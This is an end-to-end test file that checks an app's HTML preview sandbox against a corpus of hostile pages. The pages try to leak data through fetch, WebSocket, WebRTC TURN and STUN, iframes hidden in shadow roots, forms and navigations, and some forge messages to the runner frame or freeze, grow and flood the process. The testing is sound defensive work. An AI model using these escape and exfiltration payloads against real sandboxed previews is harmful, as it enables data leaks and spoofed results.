/**
 * The preview's isolation proof: a corpus of hostile HTML pages rendered
 * through the real preview code in the production app page (its real CSP).
 * Each attempt gets its own listener on 127.0.0.1 that counts TCP
 * connections, HTTP requests and UDP datagrams; none may see anything, the
 * app's page must stay where it was, and the recorded result must be honest.
 */
import path from 'node:path';
import { browserBundle } from '../scripts/lib/browser-bundle';
import type { CDPSession, Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { startListener, type Listener } from './support/listener';
import type { PreviewRecord } from './support/preview-page';
import { ask, codeBlock, fenced } from './support/runner';

function previewPageBundle(): string {
  return browserBundle(path.join(__dirname, 'support', 'preview-page.ts'));
}

interface Attempt {
  name: string;
  html: string;
  /** The honest outcome; undefined when either is honest (a navigation may or may not stop the page). */
  status?: 'ok' | 'error' | 'timeout';
  /** A line the user must see in the preview's output. */
  shows?: string;
  timeLimitMs?: number;
  /** Chromium's residual (see the attempt): a bare TCP connection, with no byte sent, is all it may see. */
  bareConnect?: boolean;
}

const WEBRTC = `
const cfg = { iceServers: [{ urls: ['stun:127.0.0.1:PORT', 'turn:127.0.0.1:PORT?transport=tcp', 'turn:127.0.0.1:PORT?transport=udp'], username: 'u', credential: 'p' }] };
function attack(w, label) {
  for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection']) {
    try {
      const pc = new w[name](cfg);
      pc.createDataChannel('x');
      pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => console.log(label + ' ' + name + ' gathering'), (e) => console.log(label + ' ' + name + ' failed ' + e));
    } catch (e) { console.log(label + ' ' + name + ' blocked: ' + e); }
  }
}`;

// Run inside a child frame, where the bridge is not; without quotes, so it fits in attributes and strings.
const CHILD_RTC =
  'try { const pc = new RTCPeerConnection({ iceServers: [{ urls: [`turn:127.0.0.1:PORT?transport=tcp`, `stun:127.0.0.1:PORT`], username: `u`, credential: `p` }] }); pc.createDataChannel(`x`); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}';

const ATTEMPTS: Attempt[] = [
  {
    name: 'a <head> in a comment before a <header>',
    html: '<!-- <head> --><header>Menu</header><script>fetch("OTHER/leak").catch(() => {}); try { new WebSocket("WS/ws"); } catch (e) {}</script>',
    status: 'ok',
    shows: 'Blocked: network request to OTHER/leak',
  },
  {
    name: 'a <head> inside a string',
    html: '<p>x</p><script>const s = "<head>"; fetch("OTHER/string").catch(() => {});</script>',
    status: 'ok',
    shows: 'Blocked: network request to OTHER/string',
  },
  {
    name: 'a leading script before <html><head>',
    html: '<script>fetch("OTHER/leading").catch(() => {});</script><html><head><title>t</title></head><body>hi</body></html>',
    status: 'ok',
    shows: 'Blocked: network request',
  },
  {
    name: 'fetch, XHR, WebSocket, EventSource and sendBeacon',
    html: `<script>
fetch('OTHER/fetch').catch(() => {});
try { const x = new XMLHttpRequest(); x.open('GET', 'OTHER/xhr'); x.send(); } catch (e) {}
try { new WebSocket('WS/ws'); } catch (e) {}
try { new EventSource('OTHER/es'); } catch (e) {}
try { navigator.sendBeacon('OTHER/beacon', 'x'); } catch (e) {}
</script>`,
    status: 'ok',
    shows: 'Blocked: network request',
  },
  {
    name: 'img, script, stylesheet, audio, object and background sources',
    html: '<img src="OTHER/img"><script src="OTHER/s.js"></script><link rel="stylesheet" href="OTHER/c.css"><audio src="OTHER/a.mp3" autoplay></audio><object data="OTHER/obj"></object><div style="background:url(OTHER/bg.png)">x</div>',
    status: 'ok',
    shows: 'Blocked: loading OTHER/img',
  },
  // An iframe in the markup would start its navigation as the parser inserts it (Chromium connects
  // before frame-src refuses it): the host cuts it from the markup first (preview-markup.ts).
  {
    name: 'an iframe with an address',
    html: '<iframe src="OTHER/frame"></iframe>',
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'dns-prefetch, preconnect, prefetch and preload links',
    html: '<link rel="dns-prefetch" href="OTHER"><link rel="preconnect" href="OTHER"><link rel="prefetch" href="OTHER/prefetch"><link rel="preload" as="fetch" href="OTHER/preload"><link rel="modulepreload" href="OTHER/m.js"><p>links</p>',
    status: 'ok',
  },
  {
    name: 'a preconnect added by script',
    html: "<script>const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'OTHER'; document.head.appendChild(l); const d = document.createElement('link'); d.rel = 'dns-prefetch'; d.href = 'OTHER'; document.head.appendChild(d);</script>",
    status: 'ok',
  },
  {
    name: 'WebRTC',
    html: `<script>${WEBRTC}\nattack(window, 'page');</script>`,
    status: 'ok',
    shows: 'Blocked: WebRTC',
  },
  {
    name: 'WebRTC from a child about:blank iframe',
    html: `<script>${WEBRTC}
const f = document.createElement('iframe'); document.documentElement.appendChild(f);
try { attack(f.contentWindow, 'child'); } catch (e) { console.log('child: ' + e.name); }
</script>`,
    status: 'ok',
  },
  {
    name: 'WebRTC from a srcdoc child in the markup',
    html: `<iframe srcdoc="<script>${CHILD_RTC}</script>"></iframe>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'WebRTC from a javascript: child',
    html: `<iframe src="javascript:'<script>${CHILD_RTC}</script>'"></iframe>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'WebRTC from a srcdoc child added by script',
    html: `<script>const f = document.createElement('iframe'); f.srcdoc = '<script>${CHILD_RTC}<\\/script>'; document.documentElement.appendChild(f);</script>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'WebRTC from a srcdoc child in a closed shadow root',
    html: `<script>const host = document.createElement('div'); document.documentElement.appendChild(host); const f = document.createElement('iframe'); f.srcdoc = '<script>${CHILD_RTC}<\\/script>'; host.attachShadow({ mode: 'closed' }).appendChild(f);</script>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  // Declarative shadow roots: a closed one cannot be seen from script and its frames are not in
  // window.length, so the page's markup is made inert on the host before it runs (preview-markup.ts).
  {
    name: 'WebRTC from a srcdoc child in a closed declarative shadow root',
    html: `<div><template shadowrootmode="closed"><iframe srcdoc="<script>${CHILD_RTC}</script>"></iframe></template></div>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'WebRTC from a javascript: child in a closed declarative shadow root',
    html: `<div><template shadowrootmode="closed"><iframe src="javascript:'<script>${CHILD_RTC}</script>'"></iframe></template></div>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'WebRTC from a srcdoc child in an open declarative shadow root',
    html: `<div><template shadowrootmode="open"><iframe srcdoc="<script>${CHILD_RTC}</script>"></iframe></template></div>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'WebRTC from a closed shadow root written by setHTMLUnsafe',
    html: `<div id=h></div><script>document.getElementById('h').setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe srcdoc="<script>${CHILD_RTC}<\\/script>"></iframe></template></div>');</script>`,
    status: 'ok',
    shows: 'Blocked: ',
  },
  {
    name: 'WebRTC from a closed shadow root parsed by Document.parseHTMLUnsafe',
    html: `<script>const d = Document.parseHTMLUnsafe('<div><template shadowrootmode="closed"><iframe srcdoc="<script>${CHILD_RTC}<\\/script>"></iframe></template></div>'); document.documentElement.appendChild(d.body.firstChild);</script>`,
    status: 'ok',
    shows: 'Blocked: ',
  },
  {
    name: 'WebRTC from a closed shadow root written by document.write',
    html: `<script>document.write('<div><template shadowrootmode="closed"><iframe srcdoc="<script>${CHILD_RTC}<\\/script>"></iframe></template></div>');</script>`,
    status: 'ok',
    shows: 'Blocked: ',
  },
  {
    name: 'WebRTC from a srcdoc child in a closed shadow root, written in two parts',
    html: `<script>document.write('<div><template shadowroot'); document.write('mode="closed"><iframe srcdoc="<script>${CHILD_RTC}<\\/script>"></iframe></template></div>');</script>`,
    status: 'ok',
  },
  {
    name: 'top.location',
    html: "<script>try { top.location = 'OTHER/top'; } catch (e) { console.log('top: ' + e.name); } try { parent.location.href = 'OTHER/parent'; } catch (e) { console.log('parent: ' + e.name); }</script>",
    status: 'ok',
  },
  {
    name: 'window.open and target=_blank',
    html: "<a id=a target=_blank href='OTHER/blank'>x</a><script>const w = window.open('OTHER/popup'); console.log('open gave ' + w); document.getElementById('a').click();</script>",
    status: 'ok',
    shows: 'Blocked: opening a window',
  },
  // The corpus's only bareConnect allowances. Chromium opens a TCP connection to a navigation's
  // address before the app's frame-src refuses the navigation, and `location` (unforgeable) cannot
  // be wrapped, nor stopped by a navigate event (opaque-origin documents get no cancelable one):
  // no request and no byte reach the listener, but the connection does.
  // The refused frame is left with an error page; the pane says what was blocked (the violation
  // names only the origin) and the preview fails.
  {
    name: 'self-navigation by location',
    html: "<p>x</p><script>location = 'OTHER/self';</script>",
    status: 'error',
    shows: 'Blocked: navigation to OTHER',
    bareConnect: true,
  },
  {
    name: 'self-navigation by location.assign',
    html: "<p>x</p><script>location.assign('OTHER/assign');</script>",
    shows: 'Blocked: navigation to OTHER',
    bareConnect: true,
  },
  {
    name: 'self-navigation by location.replace',
    html: "<p>x</p><script>location.replace('OTHER/replace');</script>",
    shows: 'Blocked: navigation to OTHER',
    bareConnect: true,
  },
  {
    name: 'self-navigation by the Navigation API',
    html: "<p>x</p><script>try { navigation.navigate('OTHER/navigate'); } catch (e) { console.log('navigate: ' + e.name); }</script>",
    shows: 'Blocked: navigation to OTHER',
  },
  {
    name: 'an iframe whose src is set by script',
    html: "<script>const f = document.createElement('iframe'); f.src = 'OTHER/scripted'; document.documentElement.appendChild(f);</script>",
    status: 'ok',
    shows: 'Blocked: ',
  },
  {
    name: 'an iframe whose src attribute is set by script',
    html: "<script>const f = document.createElement('iframe'); f.setAttribute('src', 'OTHER/attribute'); document.documentElement.appendChild(f);</script>",
    status: 'ok',
    shows: 'Blocked: ',
  },
  {
    name: 'an iframe with an address in innerHTML',
    html: "<div id=d></div><script>document.getElementById('d').innerHTML = '<iframe src=OTHER/inner></iframe>';</script>",
    status: 'ok',
    shows: 'Blocked: ',
  },
  {
    name: 'an iframe whose srcdoc is set by script',
    html: `<script>const f = document.createElement('iframe'); f.srcdoc = '<script>${CHILD_RTC}<\\/script>'; document.documentElement.appendChild(f);</script>`,
    status: 'ok',
    shows: 'Blocked: a frame inside the preview',
  },
  {
    name: 'an iframe with an address in outerHTML',
    html: "<div id=d></div><script>document.getElementById('d').outerHTML = '<iframe src=OTHER/outer></iframe>';</script>",
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'an iframe with an address in insertAdjacentHTML',
    html: "<div id=d></div><script>document.getElementById('d').insertAdjacentHTML('afterend', '<iframe src=OTHER/adjacent></iframe>');</script>",
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'an iframe with an address from createContextualFragment',
    html: "<script>document.documentElement.appendChild(document.createRange().createContextualFragment('<iframe src=OTHER/fragment></iframe>'));</script>",
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'an iframe with an address from DOMParser',
    html: "<script>const d = new DOMParser().parseFromString('<iframe src=OTHER/parsed></iframe>', 'text/html'); document.documentElement.append(...d.body.childNodes);</script>",
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'document.open and write after the page loaded',
    html: `<p>x</p><script>addEventListener('load', () => setTimeout(() => { document.open(); document.write('<div><template shadowrootmode="closed"><iframe srcdoc="<script>${CHILD_RTC}<\\/script>"></iframe></template></div>'); document.close(); }, 0));</script>`,
    status: 'ok',
    shows: 'Blocked: document.open()',
  },
  {
    name: 'an iframe address set through its attribute nodes',
    html: "<script>const f = document.createElement('iframe'); const a = document.createAttribute('src'); a.value = 'OTHER/node'; f.setAttributeNode(a); document.documentElement.appendChild(f); const g = document.createElement('iframe'); g.setAttribute('title', 't'); const b = document.createAttribute('src'); b.value = 'OTHER/named'; g.attributes.setNamedItem(b); document.documentElement.appendChild(g); const k = document.createElement('iframe'); k.setAttribute('name', 'x'); document.documentElement.appendChild(k); const c = document.createAttribute('src'); k.setAttributeNode(c); c.value = 'OTHER/value';</script>",
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'speculation rules in the markup',
    html: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["OTHER/prefetch"]}],"prerender":[{"source":"list","urls":["OTHER/prerender"]}]}</script><p>x</p>',
    status: 'ok',
  },
  {
    name: 'speculation rules added by script',
    html: "<script>const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['OTHER/sprefetch'] }], prerender: [{ source: 'list', urls: ['OTHER/sprerender'] }] }); document.head.appendChild(s);</script><p>x</p>",
    status: 'ok',
  },
  {
    name: 'an iframe with an address inserted by execCommand',
    html: "<div id=e contenteditable>x</div><script>const e = document.getElementById('e'); e.focus(); document.execCommand('insertHTML', false, '<iframe src=OTHER/exec></iframe>');</script>",
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'an iframe with an address made by XSLT',
    html: `<script>const xml = (t) => new DOMParser().parseFromString(t, 'application/xml');
const p = new XSLTProcessor();
p.importStylesheet(xml('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><div><iframe src="OTHER/xslt"></iframe></div></xsl:template></xsl:stylesheet>'));
document.documentElement.appendChild(p.transformToFragment(xml('<x/>'), document));</script>`,
    status: 'ok',
    shows: 'Blocked: frame of OTHER',
  },
  {
    name: 'self-navigation by a link click',
    html: "<a id=a href='OTHER/link'>x</a><script>document.getElementById('a').click();</script>",
    shows: 'Blocked: navigation to OTHER/link',
  },
  {
    name: 'self-navigation by meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=OTHER/refresh"><p>x</p>',
    shows: 'Blocked: a meta refresh',
  },
  {
    name: 'a form submit',
    html: "<form id=f action='OTHER/form' method=post><input name=q value=secret></form><script>document.getElementById('f').submit();</script>",
  },
  {
    name: 'a form submit by a button',
    html: "<form action='OTHER/form2'><button id=b>go</button></form><script>document.getElementById('b').click();</script>",
  },
  {
    name: 'data: and blob: navigations',
    html: "<script>const page = '<script>fetch(\"OTHER/from-data\")<\\/script>'; setTimeout(() => { location = 'data:text/html,' + encodeURIComponent(page); }, 0); setTimeout(() => { location = URL.createObjectURL(new Blob([page.replace('from-data', 'from-blob')], { type: 'text/html' })); }, 0);</script>",
    shows: 'Blocked: navigation to ',
  },
  {
    name: 'navigating a sibling frame (the runner)',
    html: "<script>for (let i = 0; i < parent.frames.length; i++) { if (parent.frames[i] === window) continue; try { parent.frames[i].location = 'OTHER/sibling' + i; } catch (e) { console.log('sibling ' + i + ': ' + e.name); } }</script>",
    status: 'ok',
  },
  {
    name: 'run requests posted to the runner frame',
    html: "<script>for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage({ type: 'run', runId: 'forged-' + i, language: 'javascript', code: \"console.log('ESCAPED')\", timeLimitMs: 1000, outputLimit: 1000 }, '*');</script>",
    status: 'ok',
  },
  {
    name: 'a forged preview-error before rendering a good page',
    html: "<p>fine</p><script>const c = document.getElementById('codelumi-preview-config'); const id = c ? JSON.parse(c.textContent).previewId : 'preview-0'; parent.postMessage({ type: 'preview-error', previewId: id, error: { kind: 'runtime', message: 'forged' } }, '*'); window.dispatchEvent(new ErrorEvent('error', { message: 'forged event' }));</script>",
    status: 'ok',
  },
  // Last: its endless loop freezes the process every sandboxed frame of the app shares (sandbox-lost.ts).
  {
    name: 'a forged preview-rendered before rendering, then an endless script',
    html: "<script>const c = document.getElementById('codelumi-preview-config'); const id = c ? JSON.parse(c.textContent).previewId : 'preview-0'; parent.postMessage({ type: 'preview-rendered', previewId: id }, '*'); window.dispatchEvent(new Event('load'));</script><script>for (;;) {}</script>",
    status: 'timeout',
    timeLimitMs: 3000,
  },
];

async function evaluate<T>(cdp: CDPSession, expression: string): Promise<T> {
  const r = (await cdp.send('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true })) as {
    result: { value?: T };
    exceptionDetails?: { text: string; exception?: { description?: string } };
  };
  if (r.exceptionDetails) throw new Error(r.exceptionDetails.exception?.description ?? r.exceptionDetails.text);
  return r.result.value as T;
}

/** The app page with the preview harness injected; evaluated over CDP (a crashed preview process must not stop the test). */
async function harness(page: Page) {
  await page.addScriptTag({ content: previewPageBundle() });
  const cdp = await page.context().newCDPSession(page);
  return {
    mount: (name: string, html: string, timeLimitMs = 5000) =>
      evaluate<PreviewRecord>(
        cdp,
        `window.__codelumiPreviews.mount(${JSON.stringify(name)}, ${JSON.stringify({ kind: 'html', code: html })}, ${timeLimitMs})`,
      ),
    state: (name: string) => evaluate<PreviewRecord>(cdp, `window.__codelumiPreviews.state(${JSON.stringify(name)})`),
    startRunner: () => evaluate<string>(cdp, 'window.__codelumiPreviews.startRunner()'),
    forgedRuns: () => evaluate<unknown[]>(cdp, 'window.__codelumiPreviews.forgedRuns()'),
    alive: () => evaluate<number>(cdp, '1 + 1'),
  };
}

const fill = (s: string, l: Listener) =>
  s.replaceAll('OTHER', l.url).replaceAll('WS', l.url.replace('http', 'ws')).replaceAll('PORT', String(l.port));
const text = (r: PreviewRecord) => r.output.map((o) => o.text).join('') + (r.outcome?.stderr ?? '');

test.describe('preview isolation', () => {
  test.setTimeout(240_000);

  test('contains every escape attempt of a previewed page, and records honest results', async ({ page, openApp }) => {
    const listeners: Listener[] = [];
    try {
      await openApp('/settings/');
      const url = page.url();
      const h = await harness(page);
      expect(await h.startRunner()).toBe('runner alive\n');
      for (const a of ATTEMPTS) {
        const l = await startListener();
        listeners.push(l);
        const r = await h.mount(a.name, fill(a.html, l), a.timeLimitMs);
        const out = text(r);
        // What each attempt did, in the report (for reading, not checked).
        test.info().annotations.push({
          type: a.name,
          description: `${r.outcome?.status}; ${out.replace(/\s+/g, ' ').slice(0, 300)}`,
        });
        expect.soft(out, a.name).not.toContain('ESCAPED');
        if (a.status) expect.soft([a.name, r.outcome?.status], out).toEqual([a.name, a.status]);
        if (a.shows)
          await expect
            .configure({ soft: true })
            .poll(async () => text(await h.state(a.name)), a.name)
            .toContain(fill(a.shows, l));
        if (!r.frameGone) expect.soft(r.sandbox, a.name).toBe('allow-scripts');
        expect.soft(await h.alive(), a.name).toBe(2);
      }
      // A control: the app page itself may reach the listener (connect-src *), so the listener does count.
      const control = await startListener();
      await page.evaluate((u) => fetch(`${u}/control`).then((r) => r.text()), control.url);
      expect(control.seen).toContain('GET /control');
      await control.close();

      // Every attempt's listener, checked after all of them ran (later attempts give slow leaks time to show).
      for (const [i, a] of ATTEMPTS.entries()) {
        const seen = a.bareConnect ? listeners[i].seen.filter((s) => s !== 'tcp') : listeners[i].seen;
        expect.soft({ attempt: a.name, seen }).toEqual({ attempt: a.name, seen: [] });
      }
      expect(await h.forgedRuns()).toEqual([]);
      expect(page.url()).toBe(url);
      expect(page.context().pages()).toHaveLength(1);
    } finally {
      for (const l of listeners) await l.close();
    }
  });
});

test.describe('preview limits after rendering', () => {
  test.setTimeout(180_000);

  test('a preview that loops, grows or floods after rendering is stopped, keeps its recorded result, and the sandboxes recover', async ({
    page,
    openApp,
  }) => {
    await openApp('/settings/');
    const h = await harness(page);
    expect(await h.startRunner()).toBe('runner alive\n');
    const hogs: [string, string][] = [
      [
        'loops after rendering',
        "<p>x</p><script>addEventListener('load', () => setTimeout(() => { for (;;) {} }, 100));</script>",
      ],
      [
        'grows memory after rendering',
        "<p>x</p><script>addEventListener('load', () => setTimeout(() => { const hog = []; for (;;) hog.push(new Array(1e6).fill(7)); }, 100));</script>",
      ],
    ];
    for (const [name, html] of hogs) {
      const r = await h.mount(name, html);
      expect([name, r.outcome?.status]).toEqual([name, 'ok']);
      await expect.poll(async () => (await h.state(name)).frameGone, { message: name, timeout: 30_000 }).toBe(true);
      const after = await h.state(name);
      expect(after.outcome, name).toEqual(r.outcome);
      expect(
        after.output
          .filter((o) => o.afterDone)
          .map((o) => o.text)
          .join(''),
        name,
      ).toContain('The preview stopped responding');
      expect(await h.alive()).toBe(2);
      // The hung process was let go: a new preview renders and the runner runs code again.
      const fresh = await h.mount(`${name}, then a new preview`, "<p>ok</p><script>console.log('fresh')</script>");
      expect([name, fresh.outcome?.status, fresh.outcome?.stdout]).toEqual([name, 'ok', 'fresh\n']);
      expect(await h.startRunner()).toBe('runner alive\n');
    }

    const flood = await h.mount(
      'floods after rendering',
      "<p>x</p><script>addEventListener('load', () => setTimeout(() => { for (let i = 0; i < 100000; i++) console.log('x'.repeat(1000)); }, 100));</script>",
    );
    expect(flood.outcome?.status).toBe('ok');
    await expect.poll(async () => text(await h.state('floods after rendering'))).toContain('[output stopped');
    const shown = (await h.state('floods after rendering')).output.map((o) => o.text).join('');
    expect(shown.length).toBeLessThan(100_000 + 200);

    // A page that posts as the bridge after it finished changes nothing.
    const late = await h.mount(
      'posts after finishing',
      "<p>x</p><script>addEventListener('load', () => setTimeout(() => { parent.postMessage({ type: 'preview-error', previewId: 'preview-0', error: { kind: 'runtime', message: 'forged' } }, '*'); throw new Error('late'); }, 100));</script>",
    );
    expect(late.outcome?.status).toBe('ok');
    await expect.poll(async () => text(await h.state('posts after finishing'))).toContain('Error: late');
    expect((await h.state('posts after finishing')).outcome).toEqual(late.outcome);
  });
});

test.describe('ordinary pages under the guard', () => {
  test('markup parsed by script still renders where the page put it', async ({ page, openApp }) => {
    await openApp('/settings/');
    const h = await harness(page);
    const html = `<table id=t></table><svg id=s></svg><div id=h></div>
<script>
document.write('<h1 id=w>Hi</h1>');
document.write(' there');
document.getElementById('t').innerHTML = '<tr><td>cell</td></tr>';
document.getElementById('s').innerHTML = '<circle r="5"></circle>';
const root = document.getElementById('h').attachShadow({ mode: 'closed' });
root.innerHTML = '<b>shadow</b>';
document.getElementById('h').insertAdjacentHTML('afterend', '<p id=a>adj</p>');
const t = document.createElement('template'); t.innerHTML = '<i>tpl</i>';
console.log([document.getElementById('w').textContent, document.body.textContent.includes('there'), document.querySelector('#t td').textContent, document.querySelector('#s circle').namespaceURI, root.querySelector('b').textContent, document.getElementById('a').textContent, t.content.firstChild.textContent].join('|'));
</script>`;
    const r = await h.mount('ordinary markup', html);
    expect([r.outcome?.status, r.outcome?.stdout, r.outcome?.stderr]).toEqual([
      'ok',
      'Hi|true|cell|http://www.w3.org/2000/svg|shadow|adj|tpl\n',
      '',
    ]);
  });

  test('markup written from a script in the head lands where the parser would put it: head content in the head, the rest at the start of the body', async ({
    page,
    openApp,
  }) => {
    await openApp('/settings/');
    const h = await harness(page);
    const html = `<!doctype html><html><head><script>document.write('<style id=st>p { color: rgb(1, 2, 3); }</style><h1 id=w>Written</h1>');</script></head>
<body><p id=after>after</p>
<script>
const w = document.getElementById('w');
console.log([document.getElementById('st').parentNode.localName, w.parentNode.localName, document.body.firstElementChild === w, getComputedStyle(document.getElementById('after')).color].join('|'));
</script></body></html>`;
    const r = await h.mount('written in the head', html);
    expect([r.outcome?.status, r.outcome?.stdout, r.outcome?.stderr]).toEqual([
      'ok',
      'head|body|true|rgb(1, 2, 3)\n',
      '',
    ]);
  });

  test('a pane busy rendering while another pane navigates away is not blamed for that navigation', async ({
    page,
    openApp,
  }) => {
    await openApp('/settings/');
    const h = await harness(page);
    // Both panes share the sandbox's process: the first asks to navigate, then the second keeps that
    // process busy for 4 s while the app learns of the refused navigation.
    const [, busy] = await Promise.all([
      h.mount('navigates away', "<p>a</p><script>location = 'http://127.0.0.1:9/away';</script>", 20_000),
      h.mount(
        'busy rendering',
        "<p>b</p><script>const t = Date.now(); while (Date.now() - t < 4000); console.log('rendered after the work');</script>",
        20_000,
      ),
    ]);
    // The page may render before its navigation is refused: then the line comes after its result.
    await expect
      .poll(async () => text(await h.state('navigates away')))
      .toContain('Blocked: navigation to http://127.0.0.1:9');
    expect([busy.outcome?.status, busy.outcome?.stdout]).toEqual(['ok', 'rendered after the work\n']);
    const later = await h.state('busy rendering');
    expect(text(later)).not.toContain('Blocked');
    expect(later.frameGone).toBe(false);
  });

  test('links that stay on the page work and are not reported: #, #anchor, javascript: and those the page handles itself', async ({
    page,
    openApp,
  }) => {
    await openApp('/settings/');
    const h = await harness(page);
    const html = `<a id=e href="#">e</a><a id=s href="#sec">s</a><a id=p href="http://127.0.0.1:9/x">p</a><a id=j href="javascript:toggled()">j</a><p id=sec>sec</p>
<script>
function toggled() { console.log('toggled'); }
document.getElementById('p').addEventListener('click', (e) => e.preventDefault());
for (const id of ['e', 's', 'p', 'j']) document.getElementById(id).click();
console.log('handled');
</script>`;
    const r = await h.mount('links on the page', html);
    expect(r.outcome?.status).toBe('ok');
    // The page's script ran to its end after the clicks (a javascript: link is the page's own code, not a
    // way out, so it is not reported; whether it runs is the browser's sandbox's call).
    await expect.poll(async () => text(await h.state('links on the page'))).toContain('handled');
    expect(text(await h.state('links on the page'))).not.toContain('Blocked');
  });
});

test.describe('preview in the chat', () => {
  test('a page with <head> in a comment renders contained, shows what was blocked, and records an honest result', async ({
    page,
    fake,
    openApp,
    seed,
  }) => {
    const l = await startListener();
    try {
      const html = fill(
        '<!-- <head> --><header>Menu</header><p id="p">page</p><script>fetch("OTHER/leak").catch(() => {}); try { new WebSocket("WS/ws"); } catch (e) {}</script>',
        l,
      );
      fake.script([{ match: { lastUser: 'menu page' }, reply: { content: fenced('html', html) } }]);
      await openApp('/');
      await ask(page, 'menu page');
      const b = codeBlock(page);
      await b.block.getByRole('button', { name: 'Preview the HTML code' }).click();
      await expect(b.block.frameLocator('iframe').locator('#p')).toHaveText('page');
      await expect(b.block.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
      await expect(b.status).toHaveText('OK');
      await expect(b.output).toContainText(
        `Blocked: network request to ${l.url}/leak (previews cannot use the network)`,
      );
      const runs = ((await seed((t) => t.table('events'))) as { kind: string; data: Record<string, unknown> }[]).filter(
        (e) => e.kind === 'run',
      );
      expect(runs.map((e) => [e.data.language, e.data.status])).toEqual([['html', 'ok']]);
      expect(l.seen).toEqual([]);
    } finally {
      await l.close();
    }
  });
});
